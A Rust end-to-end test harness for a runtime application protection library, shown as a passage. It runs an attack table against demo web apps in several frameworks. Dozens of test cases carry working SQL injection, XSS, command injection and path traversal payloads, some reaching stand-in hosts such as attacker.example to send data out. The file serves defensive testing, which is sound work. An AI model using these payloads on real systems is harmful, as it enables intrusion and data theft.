//! Shared end-to-end test harness: start the demo app of each framework on a
//! loopback port, protected by rasp with a given configuration, collect the
//! syslog events it sends over UDP, and run one attack table against it.
//!
//! Clients bind distinct loopback addresses (127.0.0.x) so that scenarios
//! that blacklist a source do not disturb one another.

#![forbid(unsafe_code)]

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rasp_core::{Config, Level, Rasp};
use rasp_examples::Hits;

/// Which framework serves the demo app.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Framework {
    /// axum + `RaspLayer`.
    Axum,
    /// actix-web + `RaspMiddleware`.
    Actix,
    /// rocket + `RaspFairing`.
    Rocket,
    /// An AWS Lambda handler + `RaspLambda`, invoked with API Gateway v2
    /// events by a local emulator.
    Lambda,
}

/// A running protected demo app.
pub struct App {
    /// Where it listens.
    pub addr: SocketAddr,
    /// Handler calls.
    pub hits: Hits,
    /// Its engine.
    pub rasp: Rasp,
    /// Syslog lines it sent.
    pub logs: Logs,
    /// The framework.
    pub framework: Framework,
}

/// Syslog lines received on a loopback UDP port.
#[derive(Clone)]
pub struct Logs {
    lines: Arc<Mutex<Vec<String>>>,
    port: u16,
}

impl Logs {
    /// Listens on an ephemeral UDP port.
    pub fn start() -> Logs {
        let sock = UdpSocket::bind("127.0.0.1:0").expect("udp bind");
        let port = sock.local_addr().expect("udp addr").port();
        let lines: Arc<Mutex<Vec<String>>> = Arc::default();
        let l = lines.clone();
        std::thread::spawn(move || {
            let mut buf = vec![0u8; 65536];
            while let Ok(n) = sock.recv(&mut buf) {
                l.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            }
        });
        Logs { lines, port }
    }

    /// Forgets the lines received so far.
    pub fn clear(&self) {
        self.lines.lock().unwrap().clear();
    }

    /// The lines received since the last [`Logs::clear`].
    pub fn lines(&self) -> Vec<String> {
        self.lines.lock().unwrap().clone()
    }

    /// Waits up to 5 s for a line that contains every part.
    pub fn wait_for(&self, parts: &[&str]) -> Option<String> {
        let deadline = Instant::now() + Duration::from_secs(5);
        while Instant::now() < deadline {
            if let Some(l) = self
                .lines
                .lock()
                .unwrap()
                .iter()
                .find(|l| parts.iter().all(|p| l.contains(p)))
            {
                return Some(l.clone());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }
}

/// The configuration used by the attack table: every check at level 1,
/// spoofing against the loopback names, card-number leaks on, events to `logs`.
pub fn table_config(logs: &Logs) -> Config {
    let mut c = Config::default();
    let s = &mut c.security_checks;
    s.path = Level::Block;
    s.headers = Level::Block;
    s.flood = Level::Block;
    s.spoofing = Level::Block;
    s.decoy = Level::Block;
    s.sqli = Level::Block;
    s.xss = Level::Block;
    s.hpp = Level::Block;
    s.command = Level::Block;
    s.dlp = Level::Block;
    c.hosts = vec!["127.0.0.1".into(), "localhost".into()];
    c.dlp_cc_numbers = true;
    c.flood_ratio = 100_000;
    c.gtfo_msg = "<h1>blocked by rasp</h1>".into();
    c.deny_status_code = 418;
    c.max_body_size = 4096;
    c.log_enabled = true;
    c.log_port = logs.port;
    c.app_name = "e2e".into();
    c.rich_text_fields = vec!["body".into()];
    c
}

/// Starts the demo app of `fw` protected with `config`.
pub async fn start(fw: Framework, config: Config, logs: Logs) -> App {
    let mut builder = Rasp::builder().config(config);
    if fw == Framework::Lambda {
        builder = builder.routes(rasp_examples::lambda_app::routes());
    }
    let rasp = builder.build().expect("valid test config");
    let hits = Hits::default();
    let addr = match fw {
        Framework::Axum => start_axum(rasp.clone(), hits.clone()).await,
        Framework::Actix => start_actix(rasp.clone(), hits.clone()),
        Framework::Rocket => start_rocket(rasp.clone(), hits.clone()).await,
        Framework::Lambda => start_lambda(rasp.clone(), hits.clone()).await,
    };
    wait_listening(addr).await;
    App {
        addr,
        hits,
        rasp,
        logs,
        framework: fw,
    }
}

async fn start_axum(rasp: Rasp, hits: Hits) -> SocketAddr {
    let app = rasp_examples::axum_app::router(hits).layer(rasp_axum::RaspLayer::new(rasp));
    serve(app).await
}

fn start_actix(rasp: Rasp, hits: Hits) -> SocketAddr {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let sys = actix_web::rt::System::new();
        sys.block_on(async move {
            let mw = rasp_actix::RaspMiddleware::new(rasp);
            let hits = actix_web::web::Data::new(hits);
            let server = actix_web::HttpServer::new(move || {
                actix_web::App::new()
                    .wrap(mw.clone())
                    .app_data(hits.clone())
                    .configure(rasp_examples::actix_app::routes)
            })
            .workers(1)
            .disable_signals()
            .bind("127.0.0.1:0")
            .expect("bind");
            tx.send(server.addrs()[0]).expect("send addr");
            let _ = server.run().await;
        });
    });
    rx.recv().expect("actix addr")
}

async fn start_rocket(rasp: Rasp, hits: Hits) -> SocketAddr {
    // Rocket reports the configured port, not the bound one: pick a free one.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("free port")
        .port();
    let config = rocket::Config {
        address: "127.0.0.1".parse().expect("ip"),
        port,
        log_level: rocket::config::LogLevel::Off,
        shutdown: rocket::config::Shutdown {
            ctrlc: false,
            ..Default::default()
        },
        ..rocket::Config::default()
    };
    let r =
        rasp_examples::rocket_app::build(hits, config).attach(rasp_rocket::RaspFairing::new(rasp));
    tokio::spawn(async move {
        let _ = r.launch().await;
    });
    SocketAddr::from(([127, 0, 0, 1], port))
}

/// A local stand-in for API Gateway: each HTTP request becomes an HTTP API
/// (v2) event, parsed by `lambda_http`, handled by the wrapped handler; the
/// handler's response goes back as the HTTP response.
async fn start_lambda(rasp: Rasp, hits: Hits) -> SocketAddr {
    use axum::body::Bytes;
    use axum::extract::ConnectInfo;
    use axum::http::{HeaderMap, Method, Uri};

    let wrapped = rasp_lambda::RaspLambda::new(rasp)
        .wrap(move |req| rasp_examples::lambda_app::handler(hits.clone(), req));
    let emulate = move |ConnectInfo(peer): ConnectInfo<SocketAddr>,
                        method: Method,
                        uri: Uri,
                        headers: HeaderMap,
                        body: Bytes| {
        let wrapped = wrapped.clone();
        async move {
            let mut hmap = serde_json::Map::new();
            let mut cookies = Vec::new();
            for (k, v) in &headers {
                let v = String::from_utf8_lossy(v.as_bytes()).into_owned();
                if k.as_str() == "cookie" {
                    cookies.extend(
                        v.split(';')
                            .map(|c| serde_json::Value::String(c.trim().to_string())),
                    );
                    continue;
                }
                match hmap.get_mut(k.as_str()) {
                    Some(serde_json::Value::String(prev)) => {
                        prev.push(',');
                        prev.push_str(&v);
                    }
                    _ => {
                        hmap.insert(k.as_str().to_string(), serde_json::Value::String(v));
                    }
                }
            }
            let (body, b64) = match std::str::from_utf8(&body) {
                Ok(t) => (t.to_string(), false),
                Err(_) => {
                    use base64::Engine;
                    (
                        base64::engine::general_purpose::STANDARD.encode(&body),
                        true,
                    )
                }
            };
            let event = serde_json::json!({
                "version": "2.0", "routeKey": "$default", "rawPath": uri.path(),
                "rawQueryString": uri.query().unwrap_or(""), "cookies": cookies, "headers": hmap,
                "requestContext": {"accountId": "1", "apiId": "local", "domainName": "localhost", "domainPrefix": "local",
                    "requestId": "r", "routeKey": "$default", "stage": "$default", "time": "26/Nov/2026:12:00:00 +0000",
                    "timeEpoch": 1795000000000u64,
                    "http": {"method": method.as_str(), "path": uri.path(), "protocol": "HTTP/1.1",
                             "sourceIp": peer.ip().to_string(), "userAgent": ""}},
                "body": if body.is_empty() { serde_json::Value::Null } else { serde_json::Value::String(body) },
                "isBase64Encoded": b64
            });
            let req = lambda_http::request::from_str(&event.to_string()).expect("event");
            let resp = wrapped(req).await.expect("handler");
            let (parts, body) = resp.into_parts();
            let bytes: Vec<u8> = match body {
                lambda_http::Body::Text(t) => t.into_bytes(),
                lambda_http::Body::Binary(b) => b,
                _ => Vec::new(),
            };
            let mut out = axum::http::Response::new(axum::body::Body::from(bytes));
            *out.status_mut() =
                axum::http::StatusCode::from_u16(parts.status.as_u16()).expect("status");
            for (k, v) in &parts.headers {
                if let (Ok(k), Ok(v)) = (
                    axum::http::HeaderName::from_bytes(k.as_str().as_bytes()),
                    axum::http::HeaderValue::from_bytes(v.as_bytes()),
                ) {
                    out.headers_mut().insert(k, v);
                }
            }
            out
        }
    };
    let app = axum::Router::new()
        .fallback(emulate)
        .layer(axum::extract::DefaultBodyLimit::max(16 * 1024 * 1024));
    serve(app).await
}

/// Serves an axum app on an ephemeral loopback port, with the client address.
async fn serve(app: axum::Router) -> SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(
            listener,
            app.into_make_service_with_connect_info::<SocketAddr>(),
        )
        .await;
    });
    addr
}

async fn wait_listening(addr: SocketAddr) {
    for _ in 0..200 {
        if tokio::net::TcpStream::connect(addr).await.is_ok() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("server on {addr} did not start");
}

/// An HTTP client whose requests come from `source` (a loopback address).
pub fn client(source: IpAddr) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(source)
        .no_proxy()
        .timeout(Duration::from_secs(20))
        .build()
        .expect("client")
}

/// What a case expects.
#[derive(Debug, Clone, Copy)]
pub enum Expect {
    /// Served: 200, body as expected.
    Served,
    /// Blocked with this attack type and location, and logged so.
    Blocked(&'static str, &'static str),
    /// Not judged (a path in `IGNORE_PATHS`): whatever the application
    /// answers, never the deny answer.
    NotJudged,
}

/// One request of the table.
#[derive(Debug, Clone)]
pub struct Case {
    /// Name for messages.
    pub name: &'static str,
    /// Method.
    pub method: &'static str,
    /// Path and query.
    pub target: String,
    /// Extra headers.
    pub headers: Vec<(&'static str, String)>,
    /// Body and its content type.
    pub body: Option<(&'static str, Vec<u8>)>,
    /// For a served echo: the exact body expected back.
    pub echo: bool,
    /// For a served request: the exact response body expected.
    pub served_body: Option<Vec<u8>>,
    /// Outcome.
    pub expect: Expect,
    /// Outcome on Lambda, when it differs: `lambda_http` resolves `..`
    /// segments before the handler (and rasp) see the path.
    pub on_lambda: Option<Expect>,
}

fn case(name: &'static str, method: &'static str, target: &str, expect: Expect) -> Case {
    Case {
        name,
        method,
        target: target.to_string(),
        headers: vec![],
        body: None,
        echo: false,
        served_body: None,
        expect,
        on_lambda: None,
    }
}

/// A benign POST that the demo's handler echoes: served, and its body sent
/// back unchanged.
fn served_echo(name: &'static str, path: &str, content_type: &'static str, body: Vec<u8>) -> Case {
    let mut c = case(name, "POST", path, Expect::Served);
    c.body = Some((content_type, body));
    c.echo = true;
    c
}

fn multipart(field: &str, value: &str) -> Vec<u8> {
    multipart_file(field, value, "notes.txt")
}

/// A text field and a file named `filename`.
fn multipart_file(field: &str, value: &str, filename: &str) -> Vec<u8> {
    format!(
        "--XBOUNDARY\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n--XBOUNDARY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: text/plain\r\n\r\nplain file\r\n--XBOUNDARY--\r\n"
    )
    .into_bytes()
}

const MP: &str = "multipart/form-data; boundary=XBOUNDARY";
const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// A JSON document of about 1.5 KiB whose second value is `first_note`.
fn long_json(first_note: &str) -> Vec<u8> {
    let mut items = vec![serde_json::json!({"id": 0, "note": first_note})];
    for i in 1..20 {
        items.push(serde_json::json!({"id": i, "name": format!("Widget {i}"), "note": "Ships in 2-3 days, O'Brien's choice"}));
    }
    serde_json::to_vec(&serde_json::json!({"items": items})).expect("JSON")
}

/// A JSON document of about 1.5 KiB whose last value is `last_note`, past
/// the first 512 bytes.
fn long_json_last(last_note: &str) -> Vec<u8> {
    let mut items: Vec<_> = (1..20)
        .map(|i| serde_json::json!({"id": i, "name": format!("Widget {i}"), "note": "Ships in 2-3 days, O'Brien's choice"}))
        .collect();
    items.push(serde_json::json!({"id": 20, "note": last_note}));
    let doc = serde_json::to_vec(&serde_json::json!({"items": items})).expect("JSON");
    assert!(doc.len() > 1024);
    doc
}

/// The attack table: benign requests in every position, the same position
/// carrying an attack, decoys, spoofing, and a data leak.
pub fn table() -> Vec<Case> {
    use Expect::*;
    let mut v =
        vec![
        case("benign page", "GET", "/", Served),
        case(
            "benign query",
            "GET",
            "/search?q=O%27Brien+%26+sons%3B+cats+and+dogs",
            Served,
        ),
        // Length marks after a number (read as a lone quote, an error
        // probe, before the length-mark rule) and a sentence that starts
        // with `Select` (certain SQL to the model).
        case(
            "benign length search",
            "GET",
            "/search?q=10%27+ladder&size=55%22+4K+TV&hint=Select+all+from+the+summer+collection",
            Served,
        ),
        // Homework: arithmetic over numbers, certain SQL to the model.
        case(
            "benign arithmetic",
            "GET",
            "/search?q=3+*+(4+%2B+5)+%3D+27&page=sqrt(16)+%3D+4",
            Served,
        ),
        // A mobile top-up code as a phone dials it.
        case(
            "benign ussd code",
            "GET",
            "/search?q=%2A100%2A1234567890%23",
            Served,
        ),
        // Time-based blind injection after an operator (0.51 to the model).
        case(
            "query sleep",
            "GET",
            "/search?q=1-sleep(5)",
            Blocked("sqli", "qs_values"),
        ),
        // A stacked procedure call (0.70 to the model).
        case(
            "query stacked exec",
            "GET",
            "/search?q=x%27%3B+EXEC+master..xp_dirtree+%27%5C%5Cattacker.example%5Cx%27--",
            Blocked("sqli", "qs_values"),
        ),
        // A tautology between closed strings, for a numeric parameter (0.01
        // to the model).
        case(
            "query tautology",
            "GET",
            "/search?page=%27hi%27+or+%27x%27%3D%27x%27",
            Blocked("sqli", "qs_values"),
        ),
        // An event handler added after an attribute's closing quote, calling
        // something unlike the training payloads (0.06 to the model).
        case(
            "query handler breakout",
            "GET",
            "/search?q=y%22+autofocus+onfocus%3D%22(open)(%27%2F%2Fx.example%27)",
            Blocked("xss", "qs_values"),
        ),
        // A pattern match after a string breakout (0.67 to the model).
        case(
            "query like breakout",
            "GET",
            "/search?q=x%27+OR+full_name+LIKE+%27%25Bob%25",
            Blocked("sqli", "qs_values"),
        ),
        // A module loaded from another origin (0.0008 to the model).
        case(
            "query dynamic import",
            "GET",
            "/search?q=import(%27%2F%2Fx.example%2Fm.js%27)",
            Blocked("xss", "qs_values"),
        ),
        // Campaign parameters inside a value: words that start with `on`.
        case(
            "benign on words",
            "GET",
            "/search?q=Campaign%3A+online%3Dyes%3B+offline%3Dno&ref=onboarding%3Dcomplete",
            Served,
        ),
        // Enumerated items: a `)` more than `(` (0.77 to the model).
        case(
            "benign enumeration",
            "GET",
            "/search?q=See+section+1.a)+and+2.b)+of+the+contract",
            Served,
        ),
        // What MySQL and SQL Server run that a generic reading skips: a
        // versioned comment's text, control characters as spaces (sqlmap's
        // modsecurityversioned and space2mssqlblank tampers).
        case(
            "query versioned comment",
            "GET",
            "/search?q=1%25%27+/*!30322AND+SLEEP(5)+AND+%27QmlC%25%27%3D%27QmlC*/",
            Blocked("sqli", "qs_values"),
        ),
        case(
            "query control-character spaces",
            "GET",
            "/search?q=1%25%27%09WAITFOR%01DELAY%05%270:0:5%27%05AND%0E%27fqNt%25%27%3D%27fqNt",
            Blocked("sqli", "qs_values"),
        ),
        // A backslash that escapes nothing in PostgreSQL's strings (sqlmap's
        // escapequotes tamper; 0.43 to the model, which reads MySQL's escape).
        case(
            "query backslash quote",
            "GET",
            "/search?q=1%25%5C%27%3BSELECT+COUNT(*)+FROM+GENERATE_SERIES(1%2C5000000)--",
            Blocked("sqli", "qs_values"),
        ),
        // A backtick typed for an apostrophe (0.99 to the model: MySQL's
        // quoted names), and a backquoted sort key broken out of.
        case(
            "benign backtick apostrophe",
            "GET",
            "/search?q=Don%60t+forget+to+call+me",
            Served,
        ),
        case(
            "query backquoted sort key",
            "GET",
            "/search?sort=id%60desc%2C(select+sleep(5))%23",
            Blocked("sqli", "qs_values"),
        ),
        case(
            "query attack",
            "GET",
            "/search?q=%3B%20cat%20%2Fetc%2Fpasswd",
            Blocked("command", "qs_values"),
        ),
        case(
            "query name attack",
            "GET",
            "/search?q=1&%24(whoami)=1",
            Blocked("command", "qs_variables"),
        ),
        case(
            "double-encoded attack",
            "GET",
            "/search?q=%257Cid",
            Blocked("command", "qs_values"),
        ),
        case(
            "path attack",
            "GET",
            "/api/items/%60uname%20-a%60",
            Blocked("command", "path"),
        ),
        case("decoy", "GET", "/.env", Blocked("decoy", "path")),
        case(
            "decoy encoded",
            "GET",
            "/%2Egit/config",
            Blocked("decoy", "path"),
        ),
        case(
            "unknown path",
            "GET",
            "/no/such/page",
            Blocked("path", "path"),
        ),
        case(
            "unknown method",
            "DELETE",
            "/api/items",
            Blocked("path", "request"),
        ),
        case(
            "pollution",
            "GET",
            "/search?q=a&q=b",
            Blocked("hpp", "qs_variables"),
        ),
        case("data leak", "GET", "/leak", Blocked("dlp", "content")),
        // Compressed by the application (a precompressed asset, a
        // compression layer inside rasp's): scanned decoded.
        case("gzipped data leak", "GET", "/leak.gz", Blocked("dlp", "content")),
        case("big benign response", "GET", "/big", Served),
        // `/robots.txt` is in the default IGNORE_PATHS: an attack there is
        // the application's business (the demos answer 404).
        case(
            "ignored path carrying an attack",
            "GET",
            "/robots.txt?q=1%27%20union%20select%20password%20from%20users--",
            NotJudged,
        ),
        // A streamed response (chunks of 7 bytes: the card number spans
        // them) is read otherwise than a body in one piece by the adapters.
        case(
            "streamed data leak",
            "GET",
            "/leak/stream",
            Blocked("dlp", "content"),
        ),
        Case {
            served_body: Some(rasp_examples::big_body().into_bytes()),
            ..case("big streamed benign response", "GET", "/big/stream", Served)
        },
    ];
    v.push(case(
        "query sqli",
        "GET",
        "/search?q=1%27%20union%20select%20password%20from%20users--",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query xss",
        "GET",
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        Blocked("xss", "qs_values"),
    ));
    // A scanner's probe: `<` as a zero-padded hex reference (served
    // before: it decodes to a lone `<`, under `MIN_XSS_LEN`).
    v.push(case(
        "query xss probe disguised lt",
        "GET",
        "/search?q=%26%23x0003C",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "query xss probe closing tag",
        "GET",
        "/search?q=%3C%2Fform%3E",
        Blocked("xss", "qs_values"),
    ));
    // Markup references without their `;` (served before).
    v.push(case(
        "query xss legacy references",
        "GET",
        "/search?q=%26ltiframe%20src%3D%2F%2Fevil.example%26gt",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "benign escaped comparison and a url parameter",
        "GET",
        "/search?q=a%20%26lt%3B%20b%20see%20%2Fp%3Fx%3D1%26gtin%3D4006381333931",
        Served,
    ));
    // Path traversal: served before the `traversal` check.
    v.push(case(
        "query path traversal",
        "GET",
        "/search?q=..%2F..%2F..%2Fetc%2Fpasswd",
        Blocked("traversal", "qs_values"),
    ));
    v.push(case(
        "path traversal in a wildcard path",
        "GET",
        "/files/..%2F..%2F..%2F..%2Fetc%2Fshadow",
        Blocked("traversal", "path"),
    ));
    // `..` segments as sent (browsers resolve them first): axum and
    // actix-web hand them to a wildcard route; judged one by one, no
    // segment climbed anything (served before).
    let mut c = case(
        "path traversal with dot segments",
        "GET",
        "/files/../../../etc/passwd",
        Blocked("traversal", "path"),
    );
    // Resolved to `/etc/passwd` on Lambda: no route of the app's.
    c.on_lambda = Some(Blocked("path", "path"));
    v.push(c);
    v.push(case(
        "benign relative link",
        "GET",
        "/search?q=..%2Fimg%2Flogo.png",
        Served,
    ));
    v.push(case(
        "query script element",
        "GET",
        "/search?q=%3Cscript%3Evar%20x%3Ddocument.createElement(%27iframe%27)%3Bdocument.body.appendChild(x)%3B",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "query global called by a built name",
        "GET",
        "/search?q=window%5B%60al%60%2B%60ert%60%5D%281%29",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "benign question about a global's member",
        "GET",
        "/search?q=How%20do%20I%20call%20window%5BfnName%5D%28arg%29%20safely%3F",
        Served,
    ));
    v.push(case(
        "query sqli curly quotes",
        "GET",
        "/search?q=%E2%80%99%20or%20%E2%80%981%E2%80%99%3D%E2%80%991",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli into a list of values",
        "GET",
        "/search?q=x%27%2C+%28select+password+from+users+limit+1%29%2C+%27y",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli column compared with itself",
        "GET",
        "/search?q=1+OR+user_id%3Duser_id",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli name or number",
        "GET",
        "/search?q=id+or+1",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli name or key",
        "GET",
        "/search?q=x+or+id",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query command injection server-side include",
        "GET",
        "/search?q=%3C%21--%23exec+cmd%3D%22%2Fbin%2Fcat+%2Fetc%2Fpasswd%22--%3E",
        Blocked("command", "qs_values"),
    ));
    v.push(case(
        "query command injection with a windows path",
        "GET",
        "/search?q=x+%26+dir+C%3A%5CUsers",
        Blocked("command", "qs_values"),
    ));
    v.push(case(
        "query sqli call concatenated to a string",
        "GET",
        "/search?q=%27+%7C%7C+utl_http.request%28%27http%3A%2F%2Fx.example%2F%27%7C%7Cuser%29+%7C%7C+%27",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli operator between quotes",
        "GET",
        "/search?q=%27LIKE%27",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "benign height without inch mark",
        "GET",
        "/search?q=he+is+6%272",
        Served,
    ));
    v.push(case(
        "benign price with grouped thousands",
        "GET",
        "/search?q=CHF+12%27500.00",
        Served,
    ));
    v.push(case(
        "benign autolink with a query",
        "GET",
        "/search?q=see+%3Chttps%3A%2F%2Fwww.youtube.com%2Fwatch%3Fv%3DdQw4w9WgXcQ%3E",
        Served,
    ));
    v.push(case(
        "query xss autolink with a handler in a path segment",
        "GET",
        "/search?q=%3Chttps%3A%2F%2Fx.example%2Fonmouseover%3Dalert%281%29%3E",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "benign long option",
        "GET",
        "/search?q=--version",
        Served,
    ));
    v.push(case(
        "benign song title with a dropped g",
        "GET",
        "/search?q=Shakin%27+All+Over",
        Served,
    ));
    v.push(case(
        "query sqli after a dropped g",
        "GET",
        "/search?q=Nothin%27+or+1%3D1--+-",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli call joined after a breakout",
        "GET",
        "/search?q=x%27+or+version%28%29+or+%27y",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query sqli jsonb containment",
        "GET",
        "/search?q=1+or+%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb+%40%3E+%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "query command injection through a globbed path",
        "GET",
        "/search?q=%3B%2F%3F%3F%3F%2F%3F%3Ft+%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F",
        Blocked("command", "qs_values"),
    ));
    v.push(case(
        "query sqli bit literal joined by or",
        "GET",
        "/search?q=1+or+b%271%27",
        Blocked("sqli", "qs_values"),
    ));
    v.push(case(
        "benign button label select all",
        "GET",
        "/search?q=Select+all",
        Served,
    ));
    v.push(case(
        "benign link placeholder javascript void",
        "GET",
        "/search?q=javascript%3Avoid%280%29",
        Served,
    ));
    v.push(case(
        "benign database error in prose",
        "GET",
        "/search?q=Duplicate+entry+%27jane%40example.com%27+for+key+%27users.email%27",
        Served,
    ));
    v.push(case(
        "benign inline code before a word that is a command",
        "GET",
        "/search?q=Set+the+%60user%60+id+field",
        Served,
    ));
    v.push(case(
        "benign attribution after a line comment",
        "GET",
        "/search?q=To+beer+or+not+to+beer+--+ShakesBeer",
        Served,
    ));
    v.push(case(
        "benign quote of an old manual with an open backtick",
        "GET",
        "/search?q=Type+%60ls%27+to+list+the+files",
        Served,
    ));
    v.push(case(
        "benign screen size before a parenthetical",
        "GET",
        "/search?q=MacBook+Pro+14%22+%28M3%2C+2023%29+-+Space+Gray",
        Served,
    ));
    v.push(case(
        "benign code fence",
        "GET",
        "/search?q=%60%60%60js",
        Served,
    ));
    v.push(case(
        "benign match minute",
        "GET",
        "/search?q=Goal+at+90%2B3%27",
        Served,
    ));
    v.push(case(
        "benign short year before a dash comment",
        "GET",
        "/search?q=Summer+%2724+--+sale+ends+Sunday",
        Served,
    ));
    v.push(case(
        "benign link as Slack writes it",
        "GET",
        "/search?q=%3Chttps%3A%2F%2Fexample.com%7CClick+here%3E",
        Served,
    ));
    v.push(case(
        "benign name with the years of a life",
        "GET",
        "/search?q=Austen%2C+Jane+%281775-1817%29",
        Served,
    ));
    v.push(case(
        "benign hebrew abbreviation",
        "GET",
        "/search?q=%D7%9E%D7%A1%27+12",
        Served,
    ));
    v.push(case(
        "benign type parameters",
        "GET",
        "/search?q=fn+f%3CT%3A+Clone%3E%28x%3A+T%29+-%3E+Map%3CK%2C+V%3E",
        Served,
    ));
    v.push(case(
        "benign derivative",
        "GET",
        "/search?q=f%27%28x%29+%3D+2x",
        Served,
    ));
    v.push(case(
        "benign markdown image",
        "GET",
        "/search?q=%21%5Ba+cat%5D%28cat.png%29",
        Served,
    ));
    v.push(case(
        "benign choice joined by or",
        "GET",
        "/search?q=tea+or+coffee",
        Served,
    ));
    v.push(case(
        "benign names with digits joined by or",
        "GET",
        "/search?q=IPv4+or+IPv6",
        Served,
    ));
    v.push(case(
        "benign number choice",
        "GET",
        "/search?q=10+or+more",
        Served,
    ));
    v.push(case(
        "benign call of an unknown name",
        "GET",
        "/search?q=startswith%28Name%2C%27A%27%29",
        Served,
    ));
    v.push(case(
        "query xss call of a dialog",
        "GET",
        "/search?q=%27-prompt%281%29-%27",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "benign hashtags",
        "GET",
        "/search?q=%23data+%23ootd",
        Served,
    ));
    v.push(case(
        "benign decade",
        "GET",
        "/search?q=hits+of+the+%2780s",
        Served,
    ));
    v.push(case(
        "benign quotation before an unknown tag",
        "GET",
        "/search?q=she+wrote%3A+%22it%27s+%3Cfine%3E%22",
        Served,
    ));
    v.push(case(
        "query xss breakout probe",
        "GET",
        "/search?q=%22%3E%3Cfine%3E",
        Blocked("xss", "qs_values"),
    ));
    v.push(case(
        "benign names with apostrophes",
        "GET",
        "/search?q=Jane+O%27Brien%27s+rock%27n%27roll%2C+don%27t+stop%21",
        Served,
    ));
    v.push(case(
        "benign arrow text",
        "GET",
        "/search?q=Meeting+moved%3A+3pm+-%3E+4pm",
        Served,
    ));
    v.push(case(
        "benign quoted key prose",
        "GET",
        "/search?q=Use+the+%27Delete%27+key+to+remove+it",
        Served,
    ));
    let mut c = case("form xss", "POST", "/form", Blocked("xss", "post_values"));
    c.body = Some((
        FORM,
        b"comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E".to_vec(),
    ));
    v.push(c);
    let mut c = case(
        "form style from another origin",
        "POST",
        "/form",
        Blocked("xss", "post_values"),
    );
    c.body = Some((
        FORM,
        b"comment=%3Cstyle%3E%40import+%27%2F%2Fevil.example%2Fx.css%27%3B%3C%2Fstyle%3E".to_vec(),
    ));
    v.push(c);
    let mut c = case("form sqli", "POST", "/form", Blocked("sqli", "post_values"));
    c.body = Some((
        FORM,
        b"user=admin%27+or+%271%27%3D%271%27+--+&pass=x".to_vec(),
    ));
    v.push(c);
    let mut c = case(
        "json sqli",
        "POST",
        "/api/items",
        Blocked("sqli", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"filter": {"name": "x' UNION SELECT username, password FROM users--"}}"#.to_vec(),
    ));
    v.push(c);
    let mut c = case(
        "json xss",
        "POST",
        "/api/items",
        Blocked("xss", "json_values"),
    );
    c.body = Some((
        JSON,
        br#"{"bio": "<svg/onload=alert(document.cookie)>"}"#.to_vec(),
    ));
    v.push(c);
    let mut c = case(
        "multipart xss",
        "POST",
        "/upload",
        Blocked("xss", "post_values"),
    );
    c.body = Some((MP, multipart("title", "<iframe src=javascript:alert(1)>")));
    v.push(c);
    let mut c = case("cookie xss", "GET", "/", Blocked("xss", "cookies"));
    c.headers
        .push(("cookie", "pref=<svg/onload=alert(1)>".into()));
    v.push(c);
    let mut c = case("cookie sqli", "GET", "/", Blocked("sqli", "cookies"));
    c.headers
        .push(("cookie", "id=1%27%20or%20sleep(5)--%20".into()));
    v.push(c);
    let mut c = case("user agent sqli", "GET", "/", Blocked("sqli", "user_agent"));
    c.headers.push((
        "user-agent",
        "Mozilla/5.0' AND 1=(SELECT COUNT(*) FROM users)--".into(),
    ));
    v.push(c);
    v.push(served_echo(
        "benign form",
        "/form",
        FORM,
        b"name=Jane+O%27Brien&note=Tom+%26+Jerry".to_vec(),
    ));
    // A shipping address whose unit number, and delivery instructions whose
    // keypad code, read as MySQL's comment after a number and names (blocked
    // with certainty before those rules).
    v.push(served_echo(
        "benign address form",
        "/form",
        FORM,
        b"name=Jane+Doe&line1=123+Main+St+%234&city=Springfield&note=Side+gate%2C+use+code+9876%23"
            .to_vec(),
    ));
    // Recipients as mail headers write them: to the XSS model, tags.
    v.push(served_echo(
        "benign recipients form",
        "/form",
        FORM,
        b"to=%22Jane+Doe%22+%3Cjane%40example.com%3E&cc=Bob+%3Cbob%40example.org%3E".to_vec(),
    ));
    // A donation form: `(c)(3)` is a call to JavaScript.
    v.push(served_echo(
        "benign donation form",
        "/form",
        FORM,
        b"amount=50&note=Gifts+are+deductible%3B+we+are+a+501(c)(3)+organization".to_vec(),
    ));
    // Sign-up with passwords a password manager made: read as a number,
    // a variable and a comment by the SQLi model before the token rule,
    // and as a tag by the XSS model before the junk-tag rule.
